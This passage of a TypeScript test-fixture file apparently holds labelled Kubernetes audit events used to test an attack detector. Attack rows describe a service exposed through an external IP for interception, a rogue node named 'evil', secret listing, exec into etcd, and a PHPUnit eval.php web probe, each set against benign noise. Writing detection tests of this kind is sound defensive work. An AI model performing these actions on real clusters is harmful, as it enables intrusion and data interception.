  ['ordinary', 'workload-by-hand', 'LOW', { by: 'eve', does: 'create serviceaccounts shop/web' }],
  [
    'noise',
    'workload-by-hand',
    '',
    { by: 'argocd/argocd-application-controller', does: 'create batch:cronjobs shop/nightly' },
  ],
  [
    'noise',
    'workload-by-hand',
    '',
    { by: 'eve', does: 'patch apps:deployments/scale shop/web', body: { spec: { replicas: 3 } } },
  ],
  [
    'attack',
    'exposed-service',
    'HIGH',
    { by: 'eve', does: 'create services shop/mitm', body: { spec: { externalIPs: ['198.51.100.9'] } } },
  ],
  ['attack', 'exposed-service', 'HIGH', { by: 'eve', does: 'patch services/status shop/mitm' }],
  [
    'attack',
    'exposed-service',
    'LOW',
    { by: 'eve', does: 'create services shop/web', body: { spec: { type: 'NodePort' } } },
  ],
  [
    'noise',
    'exposed-service',
    '',
    { by: 'eve', does: 'create services shop/web', body: { spec: { type: 'ClusterIP' } } },
  ],
  ['noise', 'exposed-service', '', { by: 'kube-system/service-controller', does: 'patch services/status shop/web' }],
  ['attack', 'endpoint-change', 'MEDIUM', { by: 'eve', does: 'patch endpoints shop/db' }],
  ['attack', 'endpoint-change', 'MEDIUM', { by: 'shop/web', does: 'create discovery.k8s.io:endpointslices shop/db-1' }],
  [
    'noise',
    'endpoint-change',
    '',
    { by: 'kube-system/endpointslice-controller', does: 'update discovery.k8s.io:endpointslices shop/db-1' },
  ],
  ['noise', 'endpoint-change', '', { by: 'knative-serving/controller', does: 'update endpoints shop/web' }],
  ['attack', 'node-change', 'HIGH', { by: 'eve', does: 'create nodes evil' }],
  ['attack', 'node-change', 'MEDIUM', { by: 'shop/web', does: 'patch nodes/status n1' }],
  ['ordinary', 'node-change', 'LOW', { by: 'eve', does: 'patch nodes n1' }],
  ['noise', 'node-change', '', { by: 'system:node:n1', does: 'patch nodes/status n1', agent: 'kubelet/v1.36' }],
  ['noise', 'node-change', '', { by: 'karpenter/karpenter', does: 'delete nodes n1' }],
  ['attack', 'access-probe', 'MEDIUM', { by: 'shop/web', does: 'list secrets -', code: 403, decision: 'forbid' }],
  [
    'attack',
    'access-probe',
    'LOW',
    { by: 'eve', does: 'create pods/exec kube-system/etcd-1', code: 403, decision: 'forbid' },
  ],
  [
    'attack',
    'access-probe',
    'LOW',
    {
      by: 'system:anonymous',
      groups: ['system:unauthenticated'],
      does: 'GET /vendor/phpunit/eval.php',
      code: 403,
      decision: 'forbid',
    },
  ],
  [
    'noise',
    'access-probe',
    '',
    { by: 'system:node:n1', does: 'get pods shop/web', code: 403, decision: 'forbid', agent: 'kubelet/v1.36' },
  ],
  ['noise', 'access-probe', '', { by: 'eve', does: 'get pods shop/web', code: 404 }],
  [
    'attack',
    'masters-access',
    'MEDIUM',
    { by: 'kubernetes-admin', groups: ['system:masters'], does: 'create configmaps shop/x' },
  ],
  [
    'attack',
    'masters-access',
    'MEDIUM',
    {
      by: 'kubernetes-admin',
      groups: ['system:masters'],
      does: 'patch namespaces shop',
      body: { metadata: { labels: { a: 'b' } } },
    },
  ],
  ['noise', 'masters-access', '', { by: 'kubernetes-admin', groups: ['system:masters'], does: 'list pods shop/' }],
  [
    'noise',
    'masters-access',
    '',
    {
      by: 'kubernetes-admin',
      groups: ['system:masters'],
      does: 'create authorization.k8s.io:selfsubjectaccessreviews -',
    },
  ],
];

export const samples: readonly Row[] = [...sessions, ...pods, ...rights, ...guards, ...secrets, ...network];

/** Rows that are off until AUDIT_CLUSTER_CIDRS is set. */
export const outside: readonly Row[] = [
  ['attack', 'system-principal-outside', 'HIGH', { by: 'shop/web', does: 'list pods shop/', from: '198.51.100.9' }],
  [
    'attack',
    'system-principal-outside',
    'MEDIUM',
    {
      by: 'system:node:n1',
      does: 'list pods shop/',
      from: '2001:db8::9',
      code: 403,
      decision: 'forbid',
      agent: 'kubelet/v1.36',
    },
  ],
  ['noise', 'system-principal-outside', '', { by: 'shop/web', does: 'list pods shop/', from: '10.0.3.4' }],
  ['noise', 'system-principal-outside', '', { by: 'eve', does: 'list pods shop/', from: '198.51.100.9' }],
];
